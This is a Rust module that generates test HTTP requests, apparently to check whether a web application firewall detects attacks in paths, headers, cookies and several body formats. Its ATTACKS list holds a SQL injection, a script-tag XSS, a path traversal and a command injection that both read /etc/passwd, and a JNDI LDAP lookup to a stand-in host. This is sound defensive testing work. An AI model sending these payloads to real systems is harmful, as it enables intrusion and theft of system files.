//! Requests with a known attack inside, still well formed.

use super::random::Random;

/// What is found at paranoia level 1, and last what is not; `@` becomes the case's mark.
pub const ATTACKS: [&str; 6] = [
    "1' OR '1'='1' UNION SELECT @ FROM users--",
    "<script>alert('@')</script>",
    "/../../../../../../etc/passwd?@",
    "${jndi:ldap://@.example/a}",
    ";cat /etc/passwd;echo @",
    "hello @",
];
pub const BENIGN: usize = ATTACKS.len() - 1;

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Place {
    Path,
    Query,
    Header,
    Cookie,
    Form,
    Json,
    Xml,
    Multipart,
}

pub const PLACES: [Place; 8] =
    [Place::Path, Place::Query, Place::Header, Place::Cookie, Place::Form, Place::Json, Place::Xml, Place::Multipart];

/// A request in parts, for either protocol; any part may be nonsense later.
#[derive(Clone, Debug)]
pub struct Message {
    pub method: Vec<u8>,
    pub target: Vec<u8>,
    pub host: Vec<u8>,
    pub headers: Vec<(Vec<u8>, Vec<u8>)>,
    pub body: Vec<u8>,
}

/// An attack at its place, as it stands in the message.
#[derive(Clone, Debug)]
pub struct Attack {
    pub place: Place,
    pub kind: usize,
    /// A word that is in no other case's request.
    pub mark: String,
    pub needle: Vec<u8>,
}

/// A benign request of that mark with the attack at the place, and `padding` bytes before it where it is in the body.
pub fn message(kind: usize, place: Place, mark: &str, padding: usize) -> (Message, Attack) {
    let raw = ATTACKS[kind].replace('@', mark);
    let needle = match place {
        Place::Path | Place::Query | Place::Cookie | Place::Form => percent(&raw),
        Place::Xml => raw.replace('&', "&amp;").replace('<', "&lt;"),
        Place::Header | Place::Json | Place::Multipart => raw,
    };
    let mut message = Message {
        method: b"GET".to_vec(),
        target: format!("/{mark}?a=1").into_bytes(),
        host: b"block.test".to_vec(),
        headers: Vec::new(),
        body: Vec::new(),
    };
    for (name, value) in [("user-agent", "Mozilla/5.0 (test)"), ("accept", "*/*"), ("x-mark", mark)] {
        message.header(name, value);
    }
    let filler = "lorem ".repeat(padding / 6);
    match place {
        Place::Path => message.target = format!("/{mark}/{needle}").into_bytes(),
        Place::Query => message.target = format!("/{mark}?a=1&b={needle}&c=2").into_bytes(),
        Place::Header => message.header("referer", needle.as_str()),
        Place::Cookie => message.header("cookie", format!("s=1; t={needle}; u=2")),
        Place::Form => message.post("application/x-www-form-urlencoded", &format!("a={}&b={needle}&c=2", filler.replace(' ', "+"))),
        Place::Json => message.post("application/json", &format!(r#"{{"a":"{filler}","b":["{needle}"],"c":2}}"#)),
        Place::Xml => message.post("application/xml", &format!("<?xml version=\"1.0\"?><r><a>{filler}</a><b>{needle}</b></r>")),
        Place::Multipart => {
            let part = |name: &str, value: &str| format!("--xYzZy\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
            let body = format!("{}{}--xYzZy--\r\n", part("a", &filler), part("b", &needle));
            message.post("multipart/form-data; boundary=xYzZy", &body);
        }
    }
    (message, Attack { place, kind, mark: mark.into(), needle: needle.into_bytes() })
}

/// A word of letters and digits that a random number decides.
pub fn mark(random: &mut Random) -> String {
    format!("m{:016x}", random.next())
}

impl Message {
    pub fn header(&mut self, name: impl Into<Vec<u8>>, value: impl Into<Vec<u8>>) {
        self.headers.push((name.into(), value.into()));
    }

    fn post(&mut self, content_type: &str, body: &str) {
        self.method = b"POST".to_vec();
        self.header("content-type", content_type);
        self.body = body.into();
    }

    /// A content-length that is true.
    pub fn length(&mut self) {
        self.header("content-length", self.body.len().to_string());
    }

    /// As HTTP/1.1, with the headers as they are.
    pub fn head(&self, version: &str) -> Vec<u8> {
        let mut head = [&self.method[..], b" ", &self.target, b" ", version.as_bytes(), b"\r\nhost: ", &self.host, b"\r\n"].concat();
        for (name, value) in &self.headers {
            head.extend_from_slice(&[&name[..], b": ", value, b"\r\n"].concat());
        }
        head.extend_from_slice(b"\r\n");
        head
    }
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| if b.is_ascii_alphanumeric() || b == b'.' { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
}
